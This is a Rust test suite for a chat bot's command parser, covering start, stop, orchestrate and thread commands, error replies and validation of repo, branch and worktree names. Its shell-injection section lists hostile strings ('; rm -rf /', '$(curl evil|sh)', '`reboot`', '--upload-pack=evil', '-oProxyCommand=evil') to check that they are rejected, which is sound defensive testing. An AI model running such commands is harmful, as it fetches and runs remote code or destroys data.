//! Integration tests for the chat command parser.

use proptest::prelude::*;
use session_manager::command::*;

const TRIGGER: &str = "@claude";

/// Top level, no default organisation.
fn top() -> ParseContext<'static> {
    ParseContext {
        trigger: TRIGGER,
        default_org: None,
        in_session_thread: false,
    }
}

/// Top level with default organisation `acme`.
fn top_org() -> ParseContext<'static> {
    ParseContext {
        default_org: Some("acme"),
        ..top()
    }
}

/// Session thread, no default organisation.
fn thread() -> ParseContext<'static> {
    ParseContext {
        in_session_thread: true,
        ..top()
    }
}

/// Session thread with default organisation `acme`.
fn thread_org() -> ParseContext<'static> {
    ParseContext {
        in_session_thread: true,
        ..top_org()
    }
}

fn ok(text: &str, ctx: ParseContext<'_>) -> Command {
    match parse(text, &ctx) {
        Some(Ok(command)) => command,
        other => panic!("{text:?} in {ctx:?}: expected a command, got {other:?}"),
    }
}

fn err(text: &str, ctx: ParseContext<'_>) -> CommandError {
    match parse(text, &ctx) {
        Some(Err(error)) => error,
        other => panic!("{text:?} in {ctx:?}: expected an error, got {other:?}"),
    }
}

fn repo(text: &str) -> RepoRef {
    text.parse()
        .unwrap_or_else(|e| panic!("{text:?} should be a valid repo ref: {e}"))
}

fn start(repo_text: &str, worktree: Option<WorktreeChoice>) -> Command {
    Command::Start {
        repo: repo(repo_text),
        worktree,
        profile: None,
    }
}

fn named(name: &str) -> Option<WorktreeChoice> {
    Some(WorktreeChoice::Named(
        WorktreeName::parse(name).expect("valid worktree name"),
    ))
}

fn id(prefix: &str) -> Option<IdPrefix> {
    Some(IdPrefix::parse(prefix).expect("valid id prefix"))
}

// ---------------------------------------------------------------------------
// Well-formed commands
// ---------------------------------------------------------------------------

#[test]
fn start_forms() {
    let auto = Some(WorktreeChoice::Auto);
    let cases: Vec<(&str, ParseContext<'_>, Command)> = vec![
        ("@claude start acme/api", top(), start("acme/api", None)),
        (
            "@claude start acme/api@main",
            top(),
            start("acme/api@main", None),
        ),
        (
            "@claude start acme/api --worktree",
            top(),
            start("acme/api", auto.clone()),
        ),
        (
            "@claude start acme/api --worktree=fix-1",
            top(),
            start("acme/api", named("fix-1")),
        ),
        (
            "@claude start acme/api@feature/x --worktree",
            top(),
            start("acme/api@feature/x", auto.clone()),
        ),
        (
            "@claude start acme/api@feature/x --worktree=wt_2",
            top(),
            start("acme/api@feature/x", named("wt_2")),
        ),
        (
            "@claude start --worktree acme/api",
            top(),
            start("acme/api", auto.clone()),
        ),
        (
            "@claude start --worktree=wt acme/api@dev",
            top(),
            start("acme/api@dev", named("wt")),
        ),
        ("@claude start api", top_org(), start("acme/api", None)),
        (
            "@claude start api@main --worktree",
            top_org(),
            start("acme/api@main", auto.clone()),
        ),
        (
            "@claude start --worktree=w api",
            top_org(),
            start("acme/api", named("w")),
        ),
        // Explicit org wins over the default.
        (
            "@claude start other/api",
            top_org(),
            start("other/api", None),
        ),
        // Case-insensitive trigger, word and option name; name case kept.
        ("@CLAUDE START Acme/API", top(), start("Acme/API", None)),
        (
            "@Claude Start acme/api --WorkTree=WT",
            top(),
            start("acme/api", named("WT")),
        ),
        // `:` / `,` after the trigger.
        ("@claude: start acme/api", top(), start("acme/api", None)),
        ("@claude, start acme/api", top(), start("acme/api", None)),
        // Any whitespace.
        (
            "  @claude\tstart\n\nacme/api \t --worktree  \n",
            top(),
            start("acme/api", auto.clone()),
        ),
        // Phone keyboards turn `--` into a dash.
        (
            "@claude start acme/api \u{2014}worktree=wt",
            top(),
            start("acme/api", named("wt")),
        ),
        (
            "@claude start acme/api \u{2013}worktree",
            top(),
            start("acme/api", auto.clone()),
        ),
        // Thread forms.
        ("!start acme/api", thread(), start("acme/api", None)),
        (
            "!START acme/api@main --worktree",
            thread(),
            start("acme/api@main", auto.clone()),
        ),
        ("!start api", thread_org(), start("acme/api", None)),
        ("@claude start acme/api", thread(), start("acme/api", None)),
        // Dots, underscores and hyphens where allowed.
        (
            "@claude start my-org/my.repo_x@release/v1.2_rc-3",
            top(),
            start("my-org/my.repo_x@release/v1.2_rc-3", None),
        ),
    ];
    for (text, ctx, expected) in cases {
        assert_eq!(ok(text, ctx), expected, "input {text:?}");
    }
}

#[test]
fn start_value_shapes() {
    let Command::Start {
        repo,
        worktree,
        profile,
    } = ok("@claude start acme/api@feat/x --worktree=w1", top())
    else {
        panic!("expected start");
    };
    assert_eq!(repo.org().as_str(), "acme");
    assert_eq!(repo.repo().as_str(), "api");
    assert_eq!(repo.branch().map(BranchName::as_str), Some("feat/x"));
    assert_eq!(repo.slug(), "acme/api");
    assert_eq!(repo.to_string(), "acme/api@feat/x");
    assert_eq!(worktree, named("w1"));
    assert_eq!(profile, None);

    let Command::Start { repo, .. } = ok("@claude start api", top_org()) else {
        panic!("expected start");
    };
    assert_eq!(repo.to_string(), "acme/api");
    assert_eq!(repo.branch(), None);
}

#[test]
fn a_profile_is_named_with_equals_on_start_and_orchestrate() {
    let review = Some(ProfileName::parse("review-2").expect("valid"));
    assert_eq!(
        ok(
            "@claude start acme/api \u{2014}profile=review-2 --worktree",
            top()
        ),
        Command::Start {
            repo: repo("acme/api"),
            worktree: Some(WorktreeChoice::Auto),
            profile: review.clone(),
        }
    );
    let orchestrate = ok("@claude orchestrate acme/api --PROFILE=review-2", top());
    assert_eq!(
        orchestrate,
        Command::Orchestrate {
            repo: repo("acme/api"),
            profile: review,
        }
    );
    assert_eq!(
        orchestrate.to_string(),
        "orchestrate acme/api --profile=review-2"
    );
    assert_eq!(
        err("@claude start acme/api --profile", top()),
        CommandError::MissingProfileName {
            command: CommandKind::Start
        }
    );
    for bad in ["a;b", "-x", "", "a.b"] {
        let text = format!("@claude start acme/api --profile={bad}");
        assert!(
            matches!(err(&text, top()), CommandError::BadProfile { .. }),
            "{text:?}"
        );
    }
    assert_eq!(
        err("@claude start acme/api --profile=a --profile=b", top()),
        CommandError::DuplicateFlag {
            flag: "--profile",
            command: CommandKind::Start
        }
    );
    assert_eq!(ok("@claude profiles", top()), Command::Profile);
    assert_eq!(ok("!profile", thread()), Command::Profile);
}

#[test]
fn default_org_is_trimmed_and_empty_means_none() {
    let ctx = ParseContext {
        default_org: Some("  acme "),
        ..top()
    };
    assert_eq!(ok("@claude start api", ctx), start("acme/api", None));
    let ctx = ParseContext {
        default_org: Some("   "),
        ..top()
    };
    assert_eq!(
        err("@claude start api", ctx),
        CommandError::NoDefaultOrg { repo: "api".into() }
    );
}

#[test]
fn orchestrate_forms() {
    let cases: Vec<(&str, ParseContext<'_>, &str)> = vec![
        ("@claude orchestrate acme/api", top(), "acme/api"),
        ("@claude orchestrate acme/api@main", top(), "acme/api@main"),
        ("@claude ORCHESTRATE api", top_org(), "acme/api"),
        ("@claude orchestrate api@dev", top_org(), "acme/api@dev"),
        ("!orchestrate acme/api", thread(), "acme/api"),
        ("@claude: orchestrate acme/api", thread(), "acme/api"),
    ];
    for (text, ctx, expected) in cases {
        assert_eq!(
            ok(text, ctx),
            Command::Orchestrate {
                repo: repo(expected),
                profile: None,
            },
            "input {text:?}"
        );
    }
}

#[test]
fn stop_forms() {
    let uuid = "0f8e3c2a-1b4d-4e5f-9a6b-7c8d9e0f1a2b";
    let cases: Vec<(String, ParseContext<'_>, Option<IdPrefix>)> = vec![
        ("@claude stop abcd".into(), top(), id("abcd")),
        ("@claude stop ABCD-12".into(), top(), id("abcd-12")),
        (format!("@claude stop {uuid}"), top(), id(uuid)),
        ("@claude stop 1234".into(), thread(), id("1234")),
        ("!stop 1234abcd".into(), thread(), id("1234abcd")),
        ("!stop".into(), thread(), None),
        ("!STOP".into(), thread(), None),
        ("@claude stop".into(), thread(), None),
        ("@claude, stop".into(), thread(), None),
    ];
    for (text, ctx, target) in cases {
        assert_eq!(ok(&text, ctx), Command::Stop { target }, "input {text:?}");
    }
}

#[test]
fn id_prefix_is_lowercased_and_matches() {
    let prefix = IdPrefix::parse("AbCd").expect("valid");
    assert_eq!(prefix.as_str(), "abcd");
    assert_eq!(prefix.to_string(), "abcd");
    assert!(prefix.matches("abcd1234-0000"));
    assert!(prefix.matches("ABCD1234"));
    assert!(!prefix.matches("abc"));
    assert!(!prefix.matches("bbcd1234"));
    assert!(!prefix.matches("ab\u{e9}d1234"));
}

#[test]
fn status_help_and_bare_trigger() {
    let cases: Vec<(&str, ParseContext<'_>, Command)> = vec![
        ("@claude status", top(), Command::Status { all: false }),
        ("@claude STATUS", top(), Command::Status { all: false }),
        ("!status", thread(), Command::Status { all: false }),
        ("@claude status", thread(), Command::Status { all: false }),
        ("@claude help", top(), Command::Help),
        ("!Help", thread(), Command::Help),
        ("@claude", top(), Command::Help),
        ("  @Claude  ", top(), Command::Help),
        ("@claude:", top(), Command::Help),
        ("@claude,", top(), Command::Help),
        ("@claude:   ", top(), Command::Help),
        ("@claude", thread(), Command::Help),
    ];
    for (text, ctx, expected) in cases {
        assert_eq!(ok(text, ctx), expected, "input {text:?}");
    }
}

#[test]
fn thread_only_commands_in_thread() {
    let cases = [
        ("!compact", Command::Compact),
        ("!clear", Command::Clear),
        ("!restart", Command::Restart),
        ("!context", Command::Context),
        ("!CONTEXT", Command::Context),
        ("@claude compact", Command::Compact),
        ("@claude: clear", Command::Clear),
        ("@CLAUDE Restart", Command::Restart),
        ("@claude context", Command::Context),
    ];
    for (text, expected) in cases {
        assert_eq!(ok(text, thread()), expected, "input {text:?}");
    }
}

#[test]
fn command_kind_and_display() {
    assert_eq!(Command::Compact.kind(), CommandKind::Compact);
    assert!(CommandKind::Context.is_thread_only());
    assert!(!CommandKind::Stop.is_thread_only());
    assert_eq!(
        CommandKind::from_word("OrChEsTrAtE"),
        Some(CommandKind::Orchestrate)
    );
    assert_eq!(CommandKind::from_word("starts"), None);
    assert_eq!(
        ok("@claude start api@main --worktree=w", top_org()).to_string(),
        "start acme/api@main --worktree=w"
    );
    assert_eq!(ok("!stop", thread()).to_string(), "stop");
    assert_eq!(ok("@claude stop ABCD", top()).to_string(), "stop abcd");
    assert_eq!(Command::Context.to_string(), "context");
}

// ---------------------------------------------------------------------------
// Not addressed to the bot
// ---------------------------------------------------------------------------

#[test]
fn non_commands_return_none() {
    let cases: Vec<(&str, ParseContext<'_>)> = vec![
        ("hello there", top()),
        ("hello there", thread()),
        ("", top()),
        ("   \n\t", thread()),
        ("please @claude start acme/api", top()),
        ("please @claude start acme/api", thread()),
        ("!status", top()),
        ("!stop abcd", top()),
        ("!", top()),
        ("@claudette hi", top()),
        ("@claudette", thread()),
        ("@claude:status", top()),
        ("@claude,help", top()),
        ("@claude.bot status", top()),
        ("@claude@claude", top()),
        ("claude status", top()),
        ("email@claude.com", top()),
        ("!important note", thread()),
        ("!!", thread()),
        ("!!!", thread()),
        ("! status", thread()),
        ("!starting over", thread()),
        ("!stopwatch", thread()),
        ("@claud", top()),
        ("@claude\u{e9} status", top()),
    ];
    for (text, ctx) in cases {
        assert_eq!(parse(text, &ctx), None, "input {text:?} in {ctx:?}");
    }
}

#[test]
fn empty_trigger_disables_trigger_addressing() {
    let ctx = ParseContext {
        trigger: "  ",
        default_org: None,
        in_session_thread: true,
    };
    assert_eq!(parse("status", &ctx), None);
    assert_eq!(parse(" start acme/api", &ctx), None);
    assert_eq!(
        parse("!status", &ctx),
        Some(Ok(Command::Status { all: false }))
    );
}

#[test]
fn non_ascii_trigger_never_panics_on_char_boundaries() {
    let ctx = ParseContext {
        trigger: "@cl\u{e9}",
        default_org: None,
        in_session_thread: false,
    };
    assert_eq!(
        parse("@cl\u{e9} status", &ctx),
        Some(Ok(Command::Status { all: false }))
    );
    assert_eq!(parse("@cl\u{c9} status", &ctx), None);
    assert_eq!(parse("@c\u{e9}\u{e9}", &ctx), None);
    assert_eq!(parse("\u{1f600}", &ctx), None);
}

// ---------------------------------------------------------------------------
// Malformed commands: each asserts the specific error
// ---------------------------------------------------------------------------

fn bad_org(value: &str, reason: InvalidReason) -> CommandError {
    CommandError::BadOrg {
        value: value.into(),
        reason,
    }
}

fn bad_repo(value: &str, reason: InvalidReason) -> CommandError {
    CommandError::BadRepo {
        value: value.into(),
        reason,
    }
}

fn bad_branch(value: &str, reason: InvalidReason) -> CommandError {
    CommandError::BadBranch {
        value: value.into(),
        reason,
    }
}

fn bad_worktree(value: &str, reason: InvalidReason) -> CommandError {
    CommandError::BadWorktree {
        value: value.into(),
        reason,
    }
}

fn bad_id(value: &str, reason: InvalidReason) -> CommandError {
    CommandError::BadIdPrefix {
        value: value.into(),
        reason,
    }
}

fn malformed_cases() -> Vec<(String, ParseContext<'static>, CommandError)> {
    use InvalidReason as R;
    let long_org = "a".repeat(40);
    let long_repo = "r".repeat(101);
    let long_branch = "b".repeat(201);
    let long_worktree = "w".repeat(101);
    let long_id = "a".repeat(37);
    vec![
        // Organisation.
        (
            "@claude start acme-/api".into(),
            top(),
            bad_org("acme-", R::BadEnd { ch: '-' }),
        ),
        (
            "@claude start -acme/api".into(),
            top(),
            bad_org("-acme", R::BadStart { ch: '-' }),
        ),
        (
            "@claude start ac--me/api".into(),
            top(),
            bad_org("ac--me", R::Contains { sequence: "--" }),
        ),
        (
            format!("@claude start {long_org}/api"),
            top(),
            bad_org(&long_org, R::TooLong { len: 40, max: 39 }),
        ),
        (
            "@claude start ac_me/api".into(),
            top(),
            bad_org("ac_me", R::BadChar { ch: '_' }),
        ),
        ("@claude start /api".into(), top(), bad_org("", R::Empty)),
        // Repository.
        (
            "@claude start acme/..".into(),
            top(),
            bad_repo("..", R::Reserved),
        ),
        (
            "@claude start acme/.hidden".into(),
            top(),
            bad_repo(".hidden", R::BadStart { ch: '.' }),
        ),
        (
            "@claude start acme/x.git".into(),
            top(),
            bad_repo(
                "x.git",
                R::GitSuffix {
                    suggestion: "x".into(),
                },
            ),
        ),
        (
            "@claude orchestrate acme/X.GIT@main".into(),
            top(),
            bad_repo(
                "X.GIT",
                R::GitSuffix {
                    suggestion: "X".into(),
                },
            ),
        ),
        (
            format!("@claude start acme/{long_repo}"),
            top(),
            bad_repo(&long_repo, R::TooLong { len: 101, max: 100 }),
        ),
        (
            "@claude start acme/a/b".into(),
            top(),
            bad_repo("a/b", R::BadChar { ch: '/' }),
        ),
        ("@claude start acme/".into(), top(), bad_repo("", R::Empty)),
        (
            "@claude start acme/-x".into(),
            top(),
            bad_repo("-x", R::BadStart { ch: '-' }),
        ),
        (
            "@claude start @channel".into(),
            top_org(),
            bad_repo("", R::Empty),
        ),
        // Branch.
        (
            "@claude start acme/api@a..b".into(),
            top(),
            bad_branch("a..b", R::Contains { sequence: ".." }),
        ),
        (
            "@claude start acme/api@a//b".into(),
            top(),
            bad_branch("a//b", R::Contains { sequence: "//" }),
        ),
        (
            "@claude start acme/api@-x".into(),
            top(),
            bad_branch("-x", R::BadStart { ch: '-' }),
        ),
        (
            "@claude start acme/api@x.lock".into(),
            top(),
            bad_branch("x.lock", R::BadSuffix { suffix: ".lock" }),
        ),
        (
            "@claude start acme/api@a.lock/b".into(),
            top(),
            bad_branch("a.lock/b", R::BadSuffix { suffix: ".lock" }),
        ),
        (
            "@claude start acme/api@main@{1}".into(),
            top(),
            bad_branch("main@{1}", R::Contains { sequence: "@{" }),
        ),
        (
            "@claude start acme/api@;rm".into(),
            top(),
            bad_branch(";rm", R::BadChar { ch: ';' }),
        ),
        (
            "@claude start acme/api@a`id`".into(),
            top(),
            bad_branch("a`id`", R::BadChar { ch: '`' }),
        ),
        (
            "@claude start acme/api@$(id)".into(),
            top(),
            bad_branch("$(id)", R::BadChar { ch: '$' }),
        ),
        (
            "@claude start acme/api@".into(),
            top(),
            bad_branch("", R::Empty),
        ),
        (
            "@claude start acme/api@feat/.x".into(),
            top(),
            bad_branch("feat/.x", R::DotComponent),
        ),
        (
            "@claude start acme/api@HEAD".into(),
            top(),
            bad_branch("HEAD", R::Reserved),
        ),
        (
            "@claude start acme/api@x.".into(),
            top(),
            bad_branch("x.", R::BadEnd { ch: '.' }),
        ),
        (
            "@claude start acme/api@x/".into(),
            top(),
            bad_branch("x/", R::BadEnd { ch: '/' }),
        ),
        (
            "@claude start acme/api@/x".into(),
            top(),
            bad_branch("/x", R::BadStart { ch: '/' }),
        ),
        (
            format!("@claude start acme/api@{long_branch}"),
            top(),
            bad_branch(&long_branch, R::TooLong { len: 201, max: 200 }),
        ),
        (
            "@claude start acme/api@@".into(),
            top(),
            bad_branch("@", R::Reserved),
        ),
        // Worktree.
        (
            "@claude start acme/api --worktree=.x".into(),
            top(),
            bad_worktree(".x", R::BadStart { ch: '.' }),
        ),
        (
            "@claude start acme/api --worktree=a..b".into(),
            top(),
            bad_worktree("a..b", R::Contains { sequence: ".." }),
        ),
        (
            "@claude start acme/api --worktree=a/b".into(),
            top(),
            bad_worktree("a/b", R::BadChar { ch: '/' }),
        ),
        (
            "@claude start acme/api --worktree=a'b".into(),
            top(),
            bad_worktree("a'b", R::BadChar { ch: '\'' }),
        ),
        (
            "@claude start --worktree=\"x\" acme/api".into(),
            top(),
            bad_worktree("\"x\"", R::BadChar { ch: '"' }),
        ),
        (
            "@claude start acme/api --worktree=".into(),
            top(),
            bad_worktree("", R::Empty),
        ),
        (
            "@claude start acme/api --worktree=-f".into(),
            top(),
            bad_worktree("-f", R::BadStart { ch: '-' }),
        ),
        (
            format!("@claude start acme/api --worktree={long_worktree}"),
            top(),
            bad_worktree(&long_worktree, R::TooLong { len: 101, max: 100 }),
        ),
        // Id prefix.
        (
            "@claude stop xyz!".into(),
            top(),
            bad_id("xyz!", R::BadChar { ch: 'x' }),
        ),
        (
            "@claude stop abc!".into(),
            top(),
            bad_id("abc!", R::BadChar { ch: '!' }),
        ),
        (
            "@claude stop abc".into(),
            top(),
            bad_id("abc", R::TooShort { len: 3, min: 4 }),
        ),
        (
            format!("@claude stop {long_id}"),
            top(),
            bad_id(&long_id, R::TooLong { len: 37, max: 36 }),
        ),
        (
            "@claude stop g123".into(),
            top(),
            bad_id("g123", R::BadChar { ch: 'g' }),
        ),
        (
            "!stop G123".into(),
            thread(),
            bad_id("G123", R::BadChar { ch: 'G' }),
        ),
        (
            "@claude stop -abc".into(),
            top(),
            bad_id("-abc", R::BadStart { ch: '-' }),
        ),
        // Unknown commands and options.
        (
            "@claude frobnicate".into(),
            top(),
            CommandError::UnknownCommand {
                word: "frobnicate".into(),
            },
        ),
        (
            "@claude: starts acme/api".into(),
            thread(),
            CommandError::UnknownCommand {
                word: "starts".into(),
            },
        ),
        (
            "@claude start acme/api --force".into(),
            top(),
            CommandError::UnknownFlag {
                flag: "--force".into(),
                command: CommandKind::Start,
            },
        ),
        (
            "@claude start --branch=main acme/api".into(),
            top(),
            CommandError::UnknownFlag {
                flag: "--branch".into(),
                command: CommandKind::Start,
            },
        ),
        (
            "@claude status --verbose".into(),
            top(),
            CommandError::UnknownFlag {
                flag: "--verbose".into(),
                command: CommandKind::Status,
            },
        ),
        (
            "@claude start acme/api --worktree --worktree".into(),
            top(),
            CommandError::DuplicateFlag {
                flag: "--worktree",
                command: CommandKind::Start,
            },
        ),
        (
            "@claude start --worktree=a acme/api --worktree=a".into(),
            top(),
            CommandError::DuplicateFlag {
                flag: "--worktree",
                command: CommandKind::Start,
            },
        ),
        (
            "@claude orchestrate acme/api --worktree".into(),
            top(),
            CommandError::FlagNotAllowed {
                flag: "--worktree",
                command: CommandKind::Orchestrate,
            },
        ),
        (
            "@claude orchestrate --worktree=x acme/api".into(),
            top(),
            CommandError::FlagNotAllowed {
                flag: "--worktree",
                command: CommandKind::Orchestrate,
            },
        ),
        // Thread-only commands at top level.
        (
            "@claude compact".into(),
            top(),
            CommandError::ThreadOnly {
                command: CommandKind::Compact,
            },
        ),
        (
            "@claude clear".into(),
            top(),
            CommandError::ThreadOnly {
                command: CommandKind::Clear,
            },
        ),
        (
            "@claude restart".into(),
            top(),
            CommandError::ThreadOnly {
                command: CommandKind::Restart,
            },
        ),
        (
            "@claude CONTEXT now".into(),
            top(),
            CommandError::ThreadOnly {
                command: CommandKind::Context,
            },
        ),
        // Extra arguments.
        (
            "@claude status now".into(),
            top(),
            CommandError::UnexpectedArgument {
                command: CommandKind::Status,
                arg: "now".into(),
            },
        ),
        (
            "@claude help me please".into(),
            top(),
            CommandError::UnexpectedArgument {
                command: CommandKind::Help,
                arg: "me".into(),
            },
        ),
        (
            "!compact everything".into(),
            thread(),
            CommandError::UnexpectedArgument {
                command: CommandKind::Compact,
                arg: "everything".into(),
            },
        ),
        (
            "@claude stop abcd efgh".into(),
            top(),
            CommandError::UnexpectedArgument {
                command: CommandKind::Stop,
                arg: "efgh".into(),
            },
        ),
        // Missing or too many values.
        (
            "@claude start".into(),
            top(),
            CommandError::MissingRepository {
                command: CommandKind::Start,
            },
        ),
        (
            "@claude start --worktree".into(),
            top(),
            CommandError::MissingRepository {
                command: CommandKind::Start,
            },
        ),
        (
            "!orchestrate".into(),
            thread(),
            CommandError::MissingRepository {
                command: CommandKind::Orchestrate,
            },
        ),
        (
            "@claude stop".into(),
            top(),
            CommandError::MissingIdPrefix {
                command: CommandKind::Stop,
            },
        ),
        (
            "@claude start api".into(),
            top(),
            CommandError::NoDefaultOrg { repo: "api".into() },
        ),
        (
            "@claude orchestrate api@main".into(),
            top(),
            CommandError::NoDefaultOrg {
                repo: "api@main".into(),
            },
        ),
        (
            "@claude start acme/api other/repo".into(),
            top(),
            CommandError::TooManyRepositories {
                command: CommandKind::Start,
                extra: "other/repo".into(),
            },
        ),
        (
            "@claude start acme/my repo".into(),
            top(),
            CommandError::TooManyRepositories {
                command: CommandKind::Start,
                extra: "repo".into(),
            },
        ),
        (
            "@claude start acme/api --worktree fix".into(),
            top(),
            CommandError::WorktreeNameNeedsEquals {
                value: "fix".into(),
            },
        ),
        (
            "@claude start --worktree fix acme/api".into(),
            top(),
            CommandError::WorktreeNameNeedsEquals {
                value: "fix".into(),
            },
        ),
        ("!".into(), thread(), CommandError::Empty),
        ("  !  ".into(), thread(), CommandError::Empty),
        // URLs instead of org/repo.
        (
            "@claude start https://github.com/acme/api".into(),
            top(),
            CommandError::RepositoryUrl {
                value: "https://github.com/acme/api".into(),
            },
        ),
        (
            "@claude start git@github.com:acme/api.git".into(),
            top(),
            CommandError::RepositoryUrl {
                value: "git@github.com:acme/api.git".into(),
            },
        ),
        (
            "@claude start github.com/acme/api".into(),
            top(),
            CommandError::RepositoryUrl {
                value: "github.com/acme/api".into(),
            },
        ),
        // Invalid configuration.
        (
            "@claude start api".into(),
            ParseContext {
                default_org: Some("bad_org"),
                ..top()
            },
            CommandError::BadDefaultOrg {
                value: "bad_org".into(),
                reason: R::BadChar { ch: '_' },
            },
        ),
    ]
}

#[test]
fn malformed_inputs_give_specific_errors() {
    let cases = malformed_cases();
    let mut inputs: Vec<&str> = cases.iter().map(|(text, _, _)| text.as_str()).collect();
    inputs.sort_unstable();
    inputs.dedup();
    assert!(inputs.len() >= 35, "only {} distinct inputs", inputs.len());
    for (text, ctx, expected) in &cases {
        assert_eq!(&err(text, *ctx), expected, "input {text:?}");
    }
}

#[test]
fn every_malformed_reply_is_clean() {
    for (text, _, expected) in malformed_cases() {
        let reply = expected.reply(TRIGGER);
        assert!(reply.starts_with("**Error:** "), "{text:?}: {reply}");
        assert_clean(&reply);
        assert!(reply.len() > expected.to_string().len());
    }
}

#[test]
fn newtype_parsers_reject_directly() {
    use InvalidReason as R;
    assert_eq!(
        OrgName::parse("-acme"),
        Err(bad_org("-acme", R::BadStart { ch: '-' }))
    );
    assert_eq!(
        "my repo".parse::<RepoName>(),
        Err(bad_repo("my repo", R::BadChar { ch: ' ' }))
    );
    assert_eq!(RepoName::parse("."), Err(bad_repo(".", R::Reserved)));
    assert_eq!(
        RepoName::parse(".git"),
        Err(bad_repo(".git", R::BadStart { ch: '.' }))
    );
    assert_eq!(
        "a\nb".parse::<BranchName>(),
        Err(bad_branch("a\nb", R::BadChar { ch: '\n' }))
    );
    assert_eq!(
        WorktreeName::parse("caf\u{e9}"),
        Err(bad_worktree("caf\u{e9}", R::BadChar { ch: '\u{e9}' }))
    );
    assert_eq!(IdPrefix::parse(""), Err(bad_id("", R::Empty)));
    assert_eq!(
        "acme".parse::<RepoRef>(),
        Err(CommandError::NoDefaultOrg {
            repo: "acme".into()
        })
    );
    assert_eq!(
        RepoRef::parse_with_default_org("api@dev", Some("acme")).map(|r| r.to_string()),
        Ok("acme/api@dev".to_owned())
    );
    let built = RepoRef::new(
        OrgName::parse("acme").expect("valid"),
        RepoName::parse("api").expect("valid"),
        Some(BranchName::parse("main").expect("valid")),
    );
    assert_eq!(built, repo("acme/api@main"));
    assert_eq!(
        OrgName::parse("a-b-c").map(|o| o.to_string()),
        Ok("a-b-c".into())
    );
    assert!(OrgName::parse(&"a".repeat(39)).is_ok());
    assert!(RepoName::parse(&"r".repeat(100)).is_ok());
    assert!(BranchName::parse(&"b".repeat(200)).is_ok());
    assert!(WorktreeName::parse(&"w".repeat(100)).is_ok());
    assert!(IdPrefix::parse(&"a".repeat(36)).is_ok());
}

// ---------------------------------------------------------------------------
// Shell injection
// ---------------------------------------------------------------------------

const INJECTION_PAYLOADS: &[&str] = &[
    "'",
    "\"",
    ";",
    "$()",
    "$(id)",
    "${IFS}",
    "`id`",
    "|",
    "||",
    "&",
    "&&",
    "<",
    ">",
    ">>",
    "\n",
    "\r",
    "\t",
    "\0",
    " ",
    "\\",
    "*",
    "?",
    "!",
    "#",
    "~",
    "(",
    ")",
    "{",
    "}",
    "[",
    "]",
    "=",
    "%",
    "^",
    ",",
    ":",
    "\u{e9}",
    "\u{202e}",
    "\u{ff1b}",
    "; rm -rf /",
    "' || true '",
    "\" && curl evil | sh \"",
    "$(curl evil|sh)",
    "`reboot`",
    "x\ny",
    "a\0b",
];

#[test]
fn injection_payloads_are_rejected_by_every_newtype() {
    for payload in INJECTION_PAYLOADS {
        for text in [
            payload.to_string(),
            format!("a{payload}"),
            format!("{payload}a"),
            format!("abcd{payload}1234"),
        ] {
            assert!(OrgName::parse(&text).is_err(), "org {text:?}");
            assert!(RepoName::parse(&text).is_err(), "repo {text:?}");
            assert!(BranchName::parse(&text).is_err(), "branch {text:?}");
            assert!(WorktreeName::parse(&text).is_err(), "worktree {text:?}");
            assert!(IdPrefix::parse(&text).is_err(), "id prefix {text:?}");
        }
    }
}

#[test]
fn injection_payloads_are_rejected_in_commands() {
    for payload in INJECTION_PAYLOADS {
        // The payload always sits between other characters: whitespace at
        // either end of a message is insignificant.
        let texts = [
            format!("@claude start acme/ap{payload}i"),
            format!("@claude start acme/{payload}api"),
            format!("@claude start ac{payload}me/api"),
            format!("@claude start acme/api@ma{payload}in"),
            format!("@claude start acme/api@{payload}main"),
            format!("@claude start acme/api --worktree=w{payload}t"),
            format!("@claude start acme/api --worktree={payload}wt"),
            format!("@claude start --worktree=w{payload}t acme/api"),
            format!("@claude orchestrate acme/api@x{payload}y"),
            format!("@claude stop abcd{payload}ef"),
            format!("!start api@main{payload}x"),
            format!("!start ap{payload}i"),
            format!("!stop abcd{payload}ef"),
        ];
        for text in texts {
            let ctx = thread_org();
            match parse(&text, &ctx) {
                Some(Err(error)) => assert_clean(&error.reply(TRIGGER)),
                other => panic!("{text:?} was not rejected: {other:?}"),
            }
        }
    }
}

#[test]
fn option_injection_is_rejected() {
    for text in [
        "@claude start acme/api@--upload-pack=evil",
        "@claude start acme/-oProxyCommand=evil",
        "@claude start --upload-pack=evil acme/api",
        "@claude start acme/api --worktree=--force",
        "@claude stop --all",
        "@claude start -oProxyCommand=x/api",
    ] {
        assert!(
            matches!(parse(text, &top()), Some(Err(_))),
            "{text:?} was not rejected"
        );
    }
}

// ---------------------------------------------------------------------------
// Messages
// ---------------------------------------------------------------------------

/// No control characters except `\n`, no invisible formatting characters.
fn assert_clean(reply: &str) {
    assert!(!reply.trim().is_empty());
    for ch in reply.chars() {
        assert!(
            ch == '\n' || !ch.is_control(),
            "control character {ch:?} in {reply:?}"
        );
        assert!(
            !matches!(ch, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}'),
            "invisible character {ch:?} in {reply:?}"
        );
    }
}

/// The first code span in `text`.
fn first_code_span(text: &str) -> &str {
    text.split('`').nth(1).unwrap_or_default()
}

#[test]
fn reply_shows_usage() {
    let reply = err("@claude start", top()).reply(TRIGGER);
    assert!(
        reply.contains(
            "Usage: `@claude start org/repo[@branch] [--worktree[=name]] [--profile=name]`"
        ),
        "{reply}"
    );
    let reply = err("@claude orchestrate acme/api --worktree", top()).reply("@bot");
    assert!(
        reply.contains("`@bot orchestrate org/repo[@branch] [--profile=name]`"),
        "{reply}"
    );
    let reply = err("@claude compact", top()).reply(TRIGGER);
    assert!(reply.contains("`!compact`"), "{reply}");
    assert!(reply.contains("session's thread"), "{reply}");
    let reply = err("@claude stop", top()).reply(TRIGGER);
    assert!(reply.contains("`@claude stop <id-prefix>`"), "{reply}");
    assert!(reply.contains("`@claude status`"), "{reply}");
    let reply = err("@claude nope", top()).reply(TRIGGER);
    assert!(reply.contains("`@claude help`"), "{reply}");
    let reply = err("@claude start acme/x.git", top()).reply(TRIGGER);
    assert!(reply.contains("`x`"), "{reply}");
}

#[test]
fn error_messages_quote_and_escape_values() {
    let error = err("@claude start acme/api@a`b", top());
    assert!(error.to_string().contains("`a\\u{60}b`"), "{error}");
    assert!(
        error.to_string().contains("a backtick is not allowed"),
        "{error}"
    );

    let error = err("@claude frob\0x\u{1b}[31m", top());
    let shown = error.to_string();
    assert!(shown.contains("`frob\\0x\\u{1b}[31m`"), "{shown}");
    assert_clean(&shown);

    let error = err("@claude start acme/api@x\u{202e}y", top());
    assert!(error.to_string().contains("\\u{202e}"), "{error}");
    assert!(error.to_string().contains("U+202E"), "{error}");

    // Mentions end up inside a code span, where chat does not expand them.
